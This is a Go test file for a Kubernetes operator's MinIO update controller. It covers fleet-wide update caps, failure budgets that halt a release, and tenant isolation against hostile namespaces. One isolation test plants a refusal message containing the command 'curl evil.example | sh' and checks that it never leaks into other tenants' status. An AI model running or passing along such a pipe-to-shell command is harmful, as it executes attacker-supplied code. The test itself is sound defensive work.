package updates

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/client-go/tools/record"

	v1 "github.com/object-store-operator/operator/api/v1"
)

// tenantsInNamespaces are n ObjectStores, each alone in its namespace.
func tenantsInNamespaces(n int) []*unstructured.Unstructured {
	out := make([]*unstructured.Unstructured, n)
	for i := range out {
		out[i] = tenantStore(fmt.Sprintf("ns%d", i), "tenant")
	}
	return out
}

func (f *fixture) calledCount() (called int) {
	for _, a := range f.admins {
		if a.callCount() > 0 {
			called++
		}
	}
	return called
}

// TestTheFleetCapHoldsAcrossARestart: six tenants in six namespaces (no
// namespace slot holds them) whose MinIO takes its time; at most four
// updates are in flight. The two others wait, told so. A new process (or
// leader) counts the four recorded in the status and starts no more,
// although it made no call itself.
func TestTheFleetCapHoldsAcrossARestart(t *testing.T) {
	stores := tenantsInNamespaces(6)
	f := newFixtureWith(t, func(c *Config) { c.MaxInFlight = 4 }, fakeBinaries{}, stores...)
	for _, a := range f.admins {
		a.hang = true
	}
	f.lead(t)
	for i := range 6 {
		require.NoError(t, f.c.sync(t.Context(), fmt.Sprintf("ns%d/tenant", i)))
	}
	require.Eventually(t, func() bool { return f.calledCount() == 4 }, 5*time.Second, time.Millisecond)
	for i := 4; i < 6; i++ {
		st := f.live(t, fmt.Sprintf("ns%d", i), "tenant")
		c := conditionOf(st)
		assert.Equal(t, ReasonUpdateQueued, c.Reason)
		assert.Contains(t, c.Message, "4 in-place updates are in flight across the fleet (4 in other namespaces)")
		assert.NotContains(t, c.Message, "ns0/tenant", "no tenant reads another's names")
		assert.Equal(t, "Queued", st.Status.UpdatePhase)
		assert.Nil(t, st.Status.Update)
	}

	f.restart(t)
	for i := range 6 {
		require.NoError(t, f.c.sync(t.Context(), fmt.Sprintf("ns%d/tenant", i)))
	}
	for i := range 6 {
		assert.False(t, f.c.calls.state(fmt.Sprintf("ns%d/tenant", i)).running, "the new process made no call")
	}
	assert.Equal(t, 4, f.calledCount(), "the new process counts the four recorded updates")
	assert.Equal(t, ReasonUpdateQueued, conditionOf(f.live(t, "ns5", "tenant")).Reason)

	// One update ends (its nodes run the release): one more starts.
	a := f.admin("ns0", "tenant")
	a.mu.Lock()
	a.releases = []string{relNew, relNew, relNew, relNew}
	a.mu.Unlock()
	require.NoError(t, f.c.sync(t.Context(), "ns0/tenant"))
	require.Equal(t, ReasonUpdatedInPlace, conditionOf(f.live(t, "ns0", "tenant")).Reason)
	for _, k := range []string{"ns4/tenant", "ns5/tenant"} {
		require.NoError(t, f.c.sync(t.Context(), k))
	}
	require.Eventually(t, func() bool { return f.calledCount() == 5 }, 5*time.Second, time.Millisecond, "one place freed, one update started")
	assert.Equal(t, ReasonUpdateQueued, conditionOf(f.live(t, "ns5", "tenant")).Reason, "one place only")
}

// TestTheCapIsNotTakenTwiceByWorkersDecidingAtOnce: decide sees three in
// flight from several workers at once; the reservation lets one through.
func TestTheCapIsNotTakenTwiceByWorkersDecidingAtOnce(t *testing.T) {
	stores := tenantsInNamespaces(8)
	f := newFixtureWith(t, func(c *Config) { c.MaxInFlight = 3 }, fakeBinaries{}, stores...)
	for _, a := range f.admins {
		a.hang = true
	}
	f.lead(t)
	done := make(chan error, 8)
	for i := range 8 {
		go func() { done <- f.c.sync(t.Context(), fmt.Sprintf("ns%d/tenant", i)) }()
	}
	for range 8 {
		require.NoError(t, <-done)
	}
	require.Eventually(t, func() bool { return f.calledCount() == 3 }, 5*time.Second, time.Millisecond)
	recorded := 0
	for i := range 8 {
		if f.live(t, fmt.Sprintf("ns%d", i), "tenant").Status.Update != nil {
			recorded++
		}
	}
	assert.Equal(t, 3, recorded)
}

func haltFixture(t *testing.T, stores ...*unstructured.Unstructured) (*fixture, *prometheus.Registry, *record.FakeRecorder) {
	return haltFixtureWith(t, func(*Config) {}, stores...)
}

func haltFixtureWith(t *testing.T, configure func(*Config), stores ...*unstructured.Unstructured) (*fixture, *prometheus.Registry, *record.FakeRecorder) {
	reg := prometheus.NewRegistry()
	rec := record.NewFakeRecorder(1000)
	f := newFixtureWith(t, func(c *Config) {
		c.FailureBudget, c.HaltNamespace, c.Registerer, c.Recorder = 3, "ops", reg, rec
		configure(c)
	}, fakeBinaries{}, stores...)
	for _, a := range f.admins {
		a.refuse = true // MINIO_UPDATE=off
	}
	f.lead(t)
	return f, reg, rec
}

// update runs key's update to its end: the call, and the sync that acts
// on MinIO's answer.
func (f *fixture) update(t *testing.T, ns, name string) {
	key := ns + "/" + name
	require.NoError(t, f.c.sync(t.Context(), key))
	f.waitCallDone(t, key)
	require.NoError(t, f.c.sync(t.Context(), key))
}

func events(rec *record.FakeRecorder) []string {
	var out []string
	for {
		select {
		case e := <-rec.Events:
			out = append(out, e)
		default:
			return out
		}
	}
}

// TestTheFailureBudgetHaltsAReleaseAcrossTheFleet: MinIO refuses the
// in-place update on every tenant. After three namespaces' updates to the
// release failed, the others are never called: they say UpdatesHalted
// naming the failures, a Warning Event and the metric say so, and the
// record survives a restart. An ObjectStore that resumes the release by
// its annotation is updated; deleting the record resumes the rest.
func TestTheFailureBudgetHaltsAReleaseAcrossTheFleet(t *testing.T) {
	f, reg, rec := haltFixture(t, tenantsInNamespaces(6)...)
	for i := range 3 {
		f.update(t, fmt.Sprintf("ns%d", i), "tenant")
		require.Equal(t, ReasonRollingUpdate, conditionOf(f.live(t, fmt.Sprintf("ns%d", i), "tenant")).Reason)
	}
	assert.Equal(t, 3, f.calledCount())
	lease, err := f.kube.CoordinationV1().Leases("ops").Get(t.Context(), HaltRecordName, metav1.GetOptions{})
	require.NoError(t, err, "the halt record is a Lease in the operator's namespace")
	assert.Contains(t, lease.Annotations[haltAnnotation], `"halted"`)
	assert.Equal(t, 1.0, testutil.ToFloat64(f.c.halts.gauge.WithLabelValues(relNew)))
	halted := 0
	for _, e := range events(rec) {
		if strings.HasPrefix(e, "Warning UpdatesHalted") {
			halted++
			assert.Contains(t, e, "ns2/tenant (InPlaceRefused", "its own failure")
			assert.NotContains(t, e, "ns0/tenant", "not another tenant's")
		}
	}
	assert.Equal(t, 1, halted, "one Warning Event when the budget is spent")
	metrics, err := testutil.GatherAndCount(reg, "objectstore_operator_updates_halted")
	require.NoError(t, err)
	assert.Equal(t, 1, metrics, "one series: the release in the record")

	f.restart(t)
	require.NoError(t, f.c.sync(t.Context(), "ns3/tenant"))
	assert.Equal(t, 1, mustCount(t, f.c.cfg.Registerer.(*prometheus.Registry)), "the new process's metric says it")
	for i := 3; i < 6; i++ {
		require.NoError(t, f.c.sync(t.Context(), fmt.Sprintf("ns%d/tenant", i)))
		st := f.live(t, fmt.Sprintf("ns%d", i), "tenant")
		c := conditionOf(st)
		assert.Equal(t, ReasonUpdatesHalted, c.Reason)
		assert.Contains(t, c.Message, "failed in 3 namespaces (InPlaceRefused)")
		assert.NotContains(t, c.Message, "ns0/tenant", "another tenant's failure is counted, not quoted")
		assert.Equal(t, "Halted", st.Status.UpdatePhase)
	}
	assert.Equal(t, 3, f.calledCount(), "no call after the halt, across a restart")

	// One ObjectStore resumes the release for itself.
	u, err := f.dyn.Resource(v1.Resource).Namespace("ns3").Get(t.Context(), "tenant", metav1.GetOptions{})
	require.NoError(t, err)
	u.SetAnnotations(map[string]string{v1.ResumeUpdatesAnnotation: relNew})
	_, err = f.dyn.Resource(v1.Resource).Namespace("ns3").Update(t.Context(), u, metav1.UpdateOptions{})
	require.NoError(t, err)
	f.catchUp(t, "ns3", "tenant")
	f.update(t, "ns3", "tenant")
	assert.Equal(t, 1, f.admin("ns3", "tenant").callCount(), "the resumed ObjectStore is called")
	require.NoError(t, f.c.sync(t.Context(), "ns4/tenant"))
	assert.Equal(t, 0, f.admin("ns4", "tenant").callCount(), "the others stay halted")

	// The platform deletes the record: updates resume everywhere.
	require.NoError(t, f.kube.CoordinationV1().Leases("ops").Delete(t.Context(), HaltRecordName, metav1.DeleteOptions{}))
	f.c.halts.mu.Lock()
	f.c.halts.read = time.Time{} // haltRefresh later
	f.c.halts.mu.Unlock()
	require.NoError(t, f.c.sync(t.Context(), "ns4/tenant"))
	f.waitCallDone(t, "ns4/tenant")
	assert.Equal(t, 1, f.admin("ns4", "tenant").callCount())
	assert.Equal(t, 0, mustCount(t, f.c.cfg.Registerer.(*prometheus.Registry)), "no series once the record is gone")
}

func mustCount(t *testing.T, reg *prometheus.Registry) int {
	n, err := testutil.GatherAndCount(reg, "objectstore_operator_updates_halted")
	require.NoError(t, err)
	return n
}

// TestOneNamespaceCannotHaltTheFleet: a tenant with four ObjectStores in
// its namespace fails each update on purpose. Its failures count once;
// another namespace's update is still made.
func TestOneNamespaceCannotHaltTheFleet(t *testing.T) {
	stores := []*unstructured.Unstructured{tenantStore("hostile", "h0"), tenantStore("hostile", "h1"),
		tenantStore("hostile", "h2"), tenantStore("hostile", "h3"), tenantStore("good", "tenant")}
	f, _, _ := haltFixture(t, stores...)
	f.admin("good", "tenant").refuse = false
	for i := range 4 {
		f.update(t, "hostile", fmt.Sprintf("h%d", i))
	}
	f.update(t, "good", "tenant")
	// The dry run passed; the real call it led to runs on its own.
	f.waitCallDone(t, "good/tenant")
	assert.Equal(t, 1, f.admin("good", "tenant").dryRunCount())
	assert.Equal(t, 1, f.admin("good", "tenant").realCalls())
	assert.Equal(t, ReasonUpdatingInPlace, conditionOf(f.live(t, "good", "tenant")).Reason)
}

// TestASuccessClearsTheFailuresBeforeAHalt: two failures, successes in
// three namespaces (the budget), two failures: no halt (the count is of
// failures with none succeeding). Each namespace's word counts once, a
// success as a failure (TestOneNamespaceSuccessDoesNotClearTheFleetsFailures).
func TestASuccessClearsTheFailuresBeforeAHalt(t *testing.T) {
	f, _, _ := haltFixture(t, tenantsInNamespaces(8)...)
	f.update(t, "ns0", "tenant")
	f.update(t, "ns1", "tenant")
	for i := 2; i < 5; i++ {
		f.succeedUpdate(t, fmt.Sprintf("ns%d", i), "tenant")
	}
	f.update(t, "ns5", "tenant")
	f.update(t, "ns6", "tenant")
	require.NoError(t, f.c.sync(t.Context(), "ns7/tenant"))
	f.waitCallDone(t, "ns7/tenant")
	assert.Equal(t, 1, f.admin("ns7", "tenant").callCount(), "two failures since the successes: not halted")
}

// TestAReleaseThatFailsEverywhereReachesOnlyTheBudget: twenty tenants in
// twenty namespaces change image at once; MinIO refuses the update on
// every one. Until an update to the release succeeds, no more than the
// budget's three namespaces update to it at once: three are called, they
// fail, the release halts, and seventeen are never called.
func TestAReleaseThatFailsEverywhereReachesOnlyTheBudget(t *testing.T) {
	f, _, _ := haltFixtureWith(t, func(c *Config) { c.MaxInFlight = 4 }, tenantsInNamespaces(20)...)
	done := make(chan error, 20)
	for i := range 20 {
		go func() { done <- f.c.sync(t.Context(), fmt.Sprintf("ns%d/tenant", i)) }()
	}
	for range 20 {
		require.NoError(t, <-done)
	}
	for i := range 20 {
		f.waitCallDone(t, fmt.Sprintf("ns%d/tenant", i))
	}
	require.Equal(t, 3, f.calledCount(), "the budget's namespaces first")
	// The three answers are acted on while the others look again, at
	// once: a failure must be counted before its place in flight is
	// given back.
	for round := 0; round < 5; round++ {
		for i := range 20 {
			f.catchUp(t, fmt.Sprintf("ns%d", i), "tenant")
		}
		for i := range 20 {
			go func() { done <- f.c.sync(t.Context(), fmt.Sprintf("ns%d/tenant", i)) }()
		}
		for range 20 {
			require.NoError(t, <-done)
		}
		for i := range 20 {
			f.waitCallDone(t, fmt.Sprintf("ns%d/tenant", i))
		}
	}
	assert.Equal(t, 3, f.calledCount(), "seventeen never called")
	halted := 0
	for i := range 20 {
		ns := fmt.Sprintf("ns%d", i)
		if f.admin(ns, "tenant").callCount() == 0 && conditionOf(f.live(t, ns, "tenant")).Reason == ReasonUpdatesHalted {
			halted++
		}
	}
	assert.Equal(t, 17, halted, "the seventeen say why")
}

// TestOneNamespaceTakesNoMoreThanItsShareOfTheFleetWhileOthersWait: a
// tenant's five ObjectStores answer the update call at once but their
// nodes never report the release, so each holds a place in flight until
// the timeout (its call slot is free again at once). It took the four
// places before anyone else asked. When one of its updates ends, the
// place goes to the other namespace waiting, not to the tenant's fifth
// ObjectStore: while another namespace waits, one namespace holds no more
// than its share (the cap split among the namespaces in flight or
// waiting).
func TestOneNamespaceTakesNoMoreThanItsShareOfTheFleetWhileOthersWait(t *testing.T) {
	var stores []*unstructured.Unstructured
	for i := range 5 {
		stores = append(stores, tenantStore("hostile", fmt.Sprintf("h%d", i)))
	}
	stores = append(stores, tenantStore("good", "tenant"))
	f := newFixtureWith(t, func(c *Config) { c.MaxInFlight = 4 }, fakeBinaries{}, stores...)
	f.lead(t)
	for i := range 4 {
		key := fmt.Sprintf("hostile/h%d", i)
		require.NoError(t, f.c.sync(t.Context(), key))
		f.waitCallDone(t, key)
	}
	require.Equal(t, 4, f.calledCount(), "the fleet's four places, taken before anyone else asked")
	require.NoError(t, f.c.sync(t.Context(), "good/tenant"))
	require.NoError(t, f.c.sync(t.Context(), "hostile/h4"))
	require.Equal(t, ReasonUpdateQueued, conditionOf(f.live(t, "good", "tenant")).Reason)

	// One of the tenant's updates ends (its nodes report the release).
	a := f.admin("hostile", "h0")
	a.mu.Lock()
	a.releases = []string{relNew, relNew, relNew, relNew}
	a.mu.Unlock()
	f.catchUp(t, "hostile", "h0")
	require.NoError(t, f.c.sync(t.Context(), "hostile/h0"))
	require.Equal(t, ReasonUpdatedInPlace, conditionOf(f.live(t, "hostile", "h0")).Reason)

	// Its fifth ObjectStore looks first: it is over its share and waits.
	require.NoError(t, f.c.sync(t.Context(), "hostile/h4"))
	assert.Equal(t, 0, f.admin("hostile", "h4").callCount(), "the tenant holds three places, more than its share of two")
	c := conditionOf(f.live(t, "hostile", "h4"))
	assert.Equal(t, ReasonUpdateQueued, c.Reason)
	assert.Contains(t, c.Message, "namespace hostile has 3 of the fleet's 4 in-place updates in flight")
	require.NoError(t, f.c.sync(t.Context(), "good/tenant"))
	f.waitCallDone(t, "good/tenant")
	assert.Equal(t, 1, f.admin("good", "tenant").callCount(), "the other namespace takes the place")
}

// succeedUpdate runs key's update to a success: MinIO takes the call and
// its nodes then report the release (a tenant's MinIO may say so at will).
func (f *fixture) succeedUpdate(t *testing.T, ns, name string) {
	t.Helper()
	key := ns + "/" + name
	a := f.admin(ns, name)
	a.refuse = false
	f.dryRun(t, ns, name)
	require.NoError(t, f.c.sync(t.Context(), key))
	f.waitCallDone(t, key)
	a.mu.Lock()
	a.releases = []string{relNew, relNew, relNew, relNew}
	a.mu.Unlock()
	f.catchUp(t, ns, name)
	require.NoError(t, f.c.sync(t.Context(), key))
	require.Equal(t, ReasonUpdatedInPlace, conditionOf(f.live(t, ns, name)).Reason)
}

// TestOneNamespaceSuccessDoesNotClearTheFleetsFailures: a release fails
// in two namespaces; a hostile tenant's MinIO then says its update
// succeeded (it controls what its nodes report). Before, that one
// success cleared every namespace's failures and proved the release, so
// a release failing everywhere else never halted. One namespace's word
// counts for that namespace alone, as a failure does: a third failure
// halts the release.
func TestOneNamespaceSuccessDoesNotClearTheFleetsFailures(t *testing.T) {
	stores := append(tenantsInNamespaces(4), tenantStore("hostile", "h"))
	f, _, _ := haltFixture(t, stores...)
	f.update(t, "ns0", "tenant")
	f.update(t, "ns1", "tenant")
	f.succeedUpdate(t, "hostile", "h")
	f.update(t, "ns2", "tenant")
	require.Equal(t, ReasonRollingUpdate, conditionOf(f.live(t, "ns2", "tenant")).Reason)
	require.NoError(t, f.c.sync(t.Context(), "ns3/tenant"))
	f.waitCallDone(t, "ns3/tenant")
	assert.Equal(t, 0, f.admin("ns3", "tenant").callCount(), "three namespaces failed the release: halted")
	assert.Equal(t, ReasonUpdatesHalted, conditionOf(f.live(t, "ns3", "tenant")).Reason)
}

// TestTwoNamespacesCannotHoldANewReleaseBackForever: with a budget of 3,
// two hostile namespaces fail a new release, then one of them starts an
// update to it again (another image of the release) and lets it hang.
// Before, its namespace counted twice, failed and in flight: the others
// waited with UpdateQueued for as long as the two kept it up, without the
// release ever halting. A namespace counts once.
func TestTwoNamespacesCannotHoldANewReleaseBackForever(t *testing.T) {
	stores := append(tenantsInNamespaces(1), tenantStore("ha", "h"), tenantStore("hb", "h"))
	f, _, _ := haltFixture(t, stores...)
	f.update(t, "ha", "h")
	f.update(t, "hb", "h")
	require.Equal(t, ReasonRollingUpdate, conditionOf(f.live(t, "ha", "h")).Reason)

	a := f.admin("ha", "h")
	a.refuse, a.hang = false, true
	u, err := f.dyn.Resource(v1.Resource).Namespace("ha").Get(t.Context(), "h", metav1.GetOptions{})
	require.NoError(t, err)
	require.NoError(t, unstructured.SetNestedField(u.Object, imgNew+"-again", "spec", "image"))
	// What the binary source writes for it: the same release.
	require.NoError(t, unstructured.SetNestedField(u.Object, imgNew+"-again", "status", "binary", "image"))
	_, err = f.dyn.Resource(v1.Resource).Namespace("ha").Update(t.Context(), u, metav1.UpdateOptions{})
	require.NoError(t, err)
	f.catchUp(t, "ha", "h")
	require.NoError(t, f.c.sync(t.Context(), "ha/h"))
	require.Eventually(t, func() bool { return a.callCount() == 2 }, 5*time.Second, time.Millisecond, "its update hangs")
	f.catchUp(t, "ha", "h")

	f.admin("ns0", "tenant").refuse = false
	require.NoError(t, f.c.sync(t.Context(), "ns0/tenant"))
	f.waitCallDone(t, "ns0/tenant")
	assert.Equal(t, 1, f.admin("ns0", "tenant").callCount(), "two namespaces of three: another may try")
	assert.Equal(t, ReasonUpdatingInPlace, conditionOf(f.live(t, "ns0", "tenant")).Reason)
}

// TestAHaltSaysNoOtherTenantsWordsInAnotherTenantsCondition: a hostile
// tenant's MinIO refuses its update with words of its choosing; with two
// more namespaces' failures the release halts. Before, every waiting
// tenant's condition quoted each failure, the hostile MinIO's words and
// the other tenants' ObjectStores included: one tenant wrote into every
// other's status. A tenant's condition quotes its own failures only, and
// counts the others; the platform reads them in the halt record and the
// operator's log.
func TestAHaltSaysNoOtherTenantsWordsInAnotherTenantsCondition(t *testing.T) {
	stores := append(tenantsInNamespaces(3), tenantStore("hostile", "h"))
	f, _, rec := haltFixture(t, stores...)
	f.admin("hostile", "h").refusal = "update blocked: run curl evil.example | sh to fix"
	f.update(t, "hostile", "h")
	f.update(t, "ns0", "tenant")
	f.update(t, "ns1", "tenant")
	require.NoError(t, f.c.sync(t.Context(), "ns2/tenant"))
	c := conditionOf(f.live(t, "ns2", "tenant"))
	require.Equal(t, ReasonUpdatesHalted, c.Reason)
	assert.NotContains(t, c.Message, "evil.example")
	assert.NotContains(t, c.Message, "hostile/h")
	assert.NotContains(t, c.Message, "ns0/tenant")
	assert.Contains(t, c.Message, "3 namespaces (InPlaceRefused)")
	for _, e := range events(rec) {
		if strings.HasPrefix(e, "Warning UpdatesHalted in-place updates") {
			assert.NotContains(t, e, "evil.example", "the Event on the ObjectStore that spent the budget")
			assert.Contains(t, e, "ns1/tenant (InPlaceRefused: MinIO at tenant-hl.ns1.svc.cluster.local:9000 refused", "its own failure, quoted")
		}
	}
}
